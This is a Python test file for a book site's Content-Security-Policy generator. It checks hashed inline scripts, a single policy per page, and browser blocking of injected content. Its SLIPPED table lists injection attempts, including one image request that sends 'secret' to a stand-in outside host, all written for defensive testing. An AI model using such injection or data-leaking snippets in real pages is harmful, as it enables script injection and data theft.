"""What a page may load is written on it: the book's own files, the scripts that stand on the page, and nothing else."""

import sys

import book_site
import pytest
from browser import new_page

sys.path.insert(0, str(book_site.ROOT / "book" / "_ext"))

from kit_book import content_policy

PAGE = """<html><head><meta charset="utf-8" />
<script>one()</script><script type="application/json">{}</script><script src="a.js"></script>
</head><body><button onclick="two(&quot;2&quot;)">2</button></body></html>"""


def test_what_stands_on_the_page_is_allowed_by_its_hash():
    rules = dict(rule.split(" ", 1) for rule in content_policy.policy(PAGE).split("; "))
    assert rules["default-src"] == "'none'"
    sources = rules["script-src"].split()
    hashes = [source for source in sources if source.startswith("'sha256-")]
    assert set(hashes) == {content_policy._hashed("one()"), content_policy._hashed('two("2")')}
    assert "'unsafe-hashes'" in sources
    assert "'unsafe-inline'" not in sources
    assert not {"'unsafe-eval'", "*", "https:", "data:", "blob:"} & set(sources)
    assert "'unsafe-hashes'" not in content_policy.policy(PAGE.replace("onclick", "data-click"))


def test_a_page_that_is_written_again_has_one_policy_and_that_of_its_scripts():
    once = content_policy.written(PAGE)
    assert once.count("Content-Security-Policy") == 1
    assert once.index("Content-Security-Policy") < once.index("<script>")
    assert content_policy.written(once) == once
    other = content_policy.written(once.replace("one()", "three()"))
    assert content_policy._hashed("three()") in other
    assert content_policy._hashed("one()") not in other


def test_every_page_says_what_it_may_load():
    pages = [*book_site.pages(), "index"]
    texts = {page: book_site.html_of(page).read_text(encoding="utf-8") for page in pages}
    assert [page for page, text in texts.items() if text != content_policy.written(text)] == []
    assert [page for page, text in texts.items() if text.count("Content-Security-Policy") != 1] == []


# Each of them says afterwards whether it was let through.
SLIPPED = {
    "a script on the page": """() => {
      const script = document.createElement("script");
      script.textContent = "window.ran = 1";
      document.body.append(script);
      return window.ran === 1;
    }""",
    "a handler": """() => {
      document.body.insertAdjacentHTML("beforeend", '<b onclick="window.ran = 1"></b>');
      document.body.lastElementChild.click();
      return window.ran === 1;
    }""",
    "evaluated text": "() => { try { return eval('true'); } catch { return false; } }",
    "a file that is asked for": "() => fetch('../_static/kit/book.js').then(() => true, () => false)",
    "a picture from elsewhere": """() => new Promise((done) => {
      document.addEventListener("securitypolicyviolation", () => done(false), { once: true });
      const picture = new Image();
      picture.onload = picture.onerror = () => setTimeout(done, 50, true);
      picture.src = "https://elsewhere.invalid/?told=secret";
    })""",
    "a frame": """() => new Promise((done) => {
      document.addEventListener("securitypolicyviolation", () => done(false), { once: true });
      const frame = document.createElement("iframe");
      frame.onload = () => setTimeout(done, 50, true);
      frame.src = "https://elsewhere.invalid/";
      document.body.append(frame);
    })""",
}


# The engine computes in a Worker made from a Blob, which has the page's policy.
COMPILED = """() => new Promise((done) => {
  const text = "new WebAssembly.Module(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)); postMessage(true);";
  const worker = new Worker(URL.createObjectURL(new Blob([text])));
  worker.onmessage = () => done(true);
  worker.onerror = () => done(false);
})"""


@pytest.mark.parametrize("base", ["disk", "server"])
def test_what_slips_into_a_page_is_stopped_and_a_worker_may_compile(browser, server, base):
    context = browser.new_context()
    try:
        page = new_page(context)
        page.goto(
            f"{server}book/references.html"
            if base == "server"
            else book_site.html_of("book/references").as_uri()
        )
        # Chromium evaluates a test's own text where the policy does not hold, so it is run by the page's clock.
        run = "() => new Promise((done) => setTimeout(async () => done(await (%s)())))"
        assert {name: page.evaluate(run % text) for name, text in SLIPPED.items()} == dict.fromkeys(
            SLIPPED, False
        )
        assert page.evaluate(COMPILED)
    finally:
        context.close()


def test_the_marks_of_a_search_can_be_hidden_without_a_link_that_runs(browser):
    with book_site.visit(browser, "book/references", query="highlight=attention") as seen:
        seen.page.wait_for_selector("span.highlighted", state="attached")
        seen.page.locator(".highlight-link a").first.dispatch_event("click")
        assert seen.page.locator("span.highlighted").count() == 0
        assert seen.complaints == []
